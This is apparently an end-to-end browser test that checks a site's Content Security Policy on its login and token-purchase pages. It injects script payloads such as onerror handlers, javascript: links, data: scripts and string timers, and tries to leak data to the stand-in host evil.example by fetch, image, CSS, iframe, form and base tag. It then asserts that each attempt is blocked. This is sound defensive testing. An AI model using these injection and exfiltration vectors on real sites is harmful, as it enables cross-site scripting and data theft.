// The last defence of the headers: code injected into a page does not run and cannot send anything to another site.
import { expect, inject } from 'vitest'
import type { Page } from 'playwright-core'
import { test } from '../support/e2e/test.ts'
import { translatorOfAll } from '../support/e2e/translated.ts'

/** Like those of most tests, which have loaded the site already. */
const anyDevice = {
  touch: false,
  microphone: false,
  whole: false,
  own: false,
  worker: false,
  translator: translatorOfAll
}
const elsewhere = 'https://evil.example'

interface Watched extends Window {
  blocked?: Set<string>
  smuggled?: number
}

/** Tries every kind of injection in the page and records the directives that blocked them. */
async function attemptAll(page: Page) {
  await page.evaluate(async (foreign) => {
    const blocked = ((window as Watched).blocked = new Set<string>())
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => blocked.add(effectiveDirective))
    // oxlint-disable-next-line unicorn/consistent-function-scoping -- all of this is sent to the page as text
    const made = (name: string, attributes: Record<string, string>) => {
      const element = document.createElement(name)
      for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value)
      document.body.append(element)
      return element
    }
    const run = 'window.smuggled = 1'
    const attempts: Record<string, () => unknown> = {
      inline: () => (made('script', {}).textContent = run),
      markup: () => (made('div', {}).innerHTML = `<img src=x onerror="${run}">`),
      handler: () => (made('button', { onclick: run }) as HTMLButtonElement).click(),
      data: () => made('script', { src: `data:text/javascript,${run}` }),
      foreign: () => made('script', { src: `${foreign}/x.js` }),
      text: () => Reflect.apply(setTimeout, window, [run]),
      address: () => (made('a', { href: `javascript:${run}` }) as HTMLAnchorElement).click(),
      style: () => (made('style', {}).textContent = `body { background: url(${foreign}/leak.png) }`),
      image: () => made('img', { src: `${foreign}/leak.png` }),
      frame: () => made('iframe', { src: `${foreign}/` }),
      base: () => made('base', { href: `${foreign}/` }),
      form: () => (made('form', { action: `${foreign}/`, method: 'post' }) as HTMLFormElement).submit(),
      call: () => fetch(`${foreign}/leak`).catch(() => null)
    }
    for (const attempt of Object.values(attempts)) {
      try {
        // oxlint-disable-next-line no-await-in-loop -- attempts must not overlap
        await attempt()
      } catch {
        // Trusted Types throw for a refused attempt.
      }
    }
  }, elsewhere)
}

test('injected code does not run and sends nothing to another site, which cannot show a page in a frame', async ({
  devices
}) => {
  const device = await devices.take(anyDevice, undefined)
  const { context } = device
  const page = await context.newPage()
  // A request that fails for a reason other than the policy was let out. The payment page may load any bank's frame.
  const letOut: string[] = []
  page.on('requestfailed', (request) => {
    const isFrame = request.resourceType() === 'document' && page.url().endsWith('/token-purchase')
    const reason = request.failure()?.errorText ?? ''
    if (request.url().startsWith(elsewhere) && !isFrame && !/csp|BLOCKED_BY_CSP/.test(reason))
      letOut.push(`${request.url()} ${reason}`)
  })
  for (const path of ['/auth', '/token-purchase']) {
    await page.goto(path)
    await page.locator('h1').first().waitFor()
    await attemptAll(page)
    await expect
      .poll(() => page.evaluate(() => [...((window as Watched).blocked ?? [])]))
      .toEqual(expect.arrayContaining(['script-src-elem', 'img-src', 'connect-src', 'base-uri', 'form-action']))
    const [ran, base] = await page.evaluate(() => [(window as Watched).smuggled, document.baseURI])
    expect([path, ran, base]).toEqual([path, undefined, inject('siteOrigin') + path])
    expect(page.url()).toBe(inject('siteOrigin') + path)
  }
  expect(letOut).toEqual([])

  // Another site cannot show a page of this site in a frame either.
  const origin = inject('siteOrigin')
  const other = await context.newPage()
  await other.setContent(
    ['/auth', '/token-purchase'].map((path) => `<iframe src="${origin}${path}"></iframe>`).join('')
  )
  await expect.poll(() => other.frames().filter((frame) => frame.url().startsWith('chrome-error:')).length).toBe(2)
  await devices.giveBack(device)
})
